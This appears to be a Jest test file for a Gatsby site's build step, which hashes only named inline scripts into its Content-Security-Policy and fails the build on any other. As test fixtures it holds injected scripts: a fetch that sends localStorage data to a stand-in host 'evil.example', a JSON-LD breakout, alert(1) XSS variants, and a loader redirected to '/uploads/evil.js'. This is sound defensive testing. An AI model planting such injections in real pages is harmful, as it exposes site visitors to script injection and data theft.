/**
 * @jest-environment node
 *
 * The Content-Security-Policy trusts only the inline scripts the site names
 * (gatsby/netlify/named-scripts.ts): a built site's pages are rewritten as
 * onPostBuild rewrites them, then hashed as the Netlify adapter hashes them;
 * any other inline script is refused, naming its page, and its hash never
 * reaches the policy.
 */
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { islandsLoader } from '../../gatsby/browser/minify-loader'
import { runIslandsAfterPaint } from '../../gatsby/browser/paint-first'
import { siteScriptHashes } from '../../gatsby/netlify/csp-hashes'
import { namedScript } from '../../gatsby/netlify/named-scripts'

/** A page as `gatsby build` writes it (Gatsby 5, slices on), before the post-build rewrite; `body` goes in its <main>. */
const builtPage = (pagePath: string, body = '') =>
  `<!DOCTYPE html><html lang="en"><head><script type="application/ld+json">{"@type":"Organization","name":"a \\u003c/script>"}</script></head>` +
  `<body><div id="___gatsby"><main><h1>${pagePath}</h1>${body}</main></div>` +
  `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath=${JSON.stringify(pagePath)};/*]]>*/</script>` +
  `<script id="gatsby-chunk-mapping">window.___chunkMapping="{\\"app\\":[\\"/app-3.js\\"]}";</script>` +
  `<script>window.___webpackCompilationHash="1655f10f7f7abc1502cc";</script>` +
  `<script src="/webpack-runtime-1.js" async></script><script src="/framework-2.js" async></script><script src="/app-3.js" async></script>` +
  `</body></html>`

const ISLANDS = '/static/islands/islands-ABC.js'

let publicDir: string
beforeEach(() => (publicDir = fs.mkdtempSync(path.join(os.tmpdir(), 'named-scripts-'))))
afterEach(() => fs.rmSync(publicDir, { recursive: true, force: true }))

/** Writes the pages (file -> [address, body]), rewrites them as onPostBuild does, and hashes them as the adapter does. */
function built(pages: Record<string, [string, string?]>) {
  for (const [file, [pagePath, body]] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(publicDir, file)), { recursive: true })
    fs.writeFileSync(path.join(publicDir, file), builtPage(pagePath, body))
  }
  runIslandsAfterPaint(ISLANDS, publicDir)
  return siteScriptHashes(publicDir, ISLANDS)
}

const SITE: Record<string, [string, string?]> = {
  'index.html': ['/'],
  'ar/index.html': ['/ar/'],
  'insights/an-article/index.html': ['/insights/an-article/'],
  '404.html': ['/404.html'],
  'ar/404/index.html': ['/ar/404/'],
}
const SITE_PAGES = Object.keys(SITE).length

test("the site's own script is trusted: the islands' loader, the same on every page; Gatsby's own are gone", () => {
  const { hashes, problems } = built(SITE)
  expect(problems).toEqual([])
  expect(hashes).toHaveLength(1)
})

test('an inline script nobody named fails the build, naming its page, and is not hashed into the policy', () => {
  const { hashes, problems } = built({ ...SITE, 'insights/an-article/index.html': ['/insights/an-article/', '<p>Text</p><script>fetch("https://evil.example/?" + localStorage.length)</script>'] })
  expect(problems).toEqual([
    `/insights/an-article/ (${path.join(publicDir, 'insights/an-article/index.html')}): an inline script nobody named in gatsby/netlify/named-scripts.ts, "fetch(\\"https://evil.example/?\\" + localStorage.length)"`,
  ])
  expect(hashes).toHaveLength(1)
})

test.each([
  ['a module script', '<script type="module">import("/x.js")</script>'],
  ['a script in upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['a script inside an SVG', '<svg><script>alert(1)</script></svg>'],
  ["Gatsby's pagePath script, which the build takes out, written back by other means", '<script>/*<![CDATA[*/window.pagePath="/404.html";/*]]>*/</script>'],
])('%s is refused too', (_name, script) => {
  const { problems } = built({ ...SITE, 'insights/an-article/index.html': ['/insights/an-article/', script] })
  expect(problems).toHaveLength(1)
  expect(problems[0]).toMatch(/^\/insights\/an-article\/ .*an inline script nobody named/)
})

test('the loader is recognised by its text as the build makes it from its source: any other text, one character apart, is not', () => {
  const loader = islandsLoader(ISLANDS)
  const context = { pagePath: '/', islandsScript: ISLANDS }
  expect(namedScript(loader, context)?.madeBy).toBe('src/components/islands/loader.ts')
  expect(namedScript(`${loader};alert(1)`, context)).toBeUndefined()
  expect(namedScript(`${loader};`, context)).toBeUndefined()
  expect(namedScript(loader.replace('module', 'modulf'), context)).toBeUndefined()
})

test("the loader's address is part of its hashed text: a page whose loader adds another script fails the build, and its hash is not trusted", () => {
  const { hashes } = built(SITE)
  const evil = '/uploads/evil.js'
  const page = path.join(publicDir, 'ar/index.html')
  // The loader's own text, as an injection would copy it, with another address (and the tag's attribute kept).
  fs.writeFileSync(page, fs.readFileSync(page, 'utf8').split(ISLANDS).join(evil))
  expect(islandsLoader(evil)).toContain(evil)
  expect(fs.readFileSync(page, 'utf8')).toContain(islandsLoader(evil))
  const checked = siteScriptHashes(publicDir, ISLANDS)
  expect(checked.problems).toEqual([expect.stringMatching(/^\/ar\/ .*an inline script nobody named in gatsby\/netlify\/named-scripts.ts, /)])
  expect(checked.hashes).toEqual(hashes)
})

test("the build's islands' script is the one public/ holds: none, or two, fail the check, saying so", () => {
  built(SITE)
  expect(() => siteScriptHashes(publicDir)).toThrow(/holds 0 islands' scripts \(none\), where a build writes exactly one/)
  fs.mkdirSync(path.join(publicDir, 'static/islands'), { recursive: true })
  fs.writeFileSync(path.join(publicDir, 'static/islands/islands-AAAAAAAA.js'), '')
  expect(siteScriptHashes(publicDir).problems).toHaveLength(SITE_PAGES)
  fs.writeFileSync(path.join(publicDir, 'static/islands/islands-BBBBBBBB.js'), '')
  expect(() => siteScriptHashes(publicDir)).toThrow(/holds 2 islands' scripts \(islands-AAAAAAAA.js, islands-BBBBBBBB.js\)/)
})

test('JSON-LD is data, not a script: never hashed; a value that breaks out of it is an unnamed script, and what it leaves is not JSON', () => {
  const { hashes, problems } = built({ ...SITE, 'index.html': ['/', '<script type="application/ld+json">{"name": "</script><script>alert(1)//"}</script>'] })
  expect(problems).toEqual([
    expect.stringMatching(/^\/ .*an inline script nobody named in gatsby\/netlify\/named-scripts.ts, "alert\(1\)\/\/\\"}"$/),
    expect.stringMatching(/^\/ .*a JSON data block that is not JSON, "{\\"name\\": \\""$/),
  ])
  expect(hashes).toHaveLength(1)
})

test("the loader's text names the script it adds, so an incremental build writes it anew for its own script", () => {
  runIslandsAfterPaint(ISLANDS, (fs.mkdirSync(path.join(publicDir, 'one')), path.join(publicDir, 'one')))
  const html = builtPage('/')
  fs.writeFileSync(path.join(publicDir, 'one', 'index.html'), html)
  runIslandsAfterPaint('/static/islands/islands-ABC.js', path.join(publicDir, 'one'))
  const first = fs.readFileSync(path.join(publicDir, 'one', 'index.html'), 'utf8')
  expect(first).toContain(`<script data-islands="/static/islands/islands-ABC.js">${islandsLoader('/static/islands/islands-ABC.js')}</script>`)
  // An incremental build writes the page's loader anew, for its own script.
  runIslandsAfterPaint('/static/islands/islands-DEF.js', path.join(publicDir, 'one'))
  expect(fs.readFileSync(path.join(publicDir, 'one', 'index.html'), 'utf8')).toBe(first.split('islands-ABC.js').join('islands-DEF.js'))
})
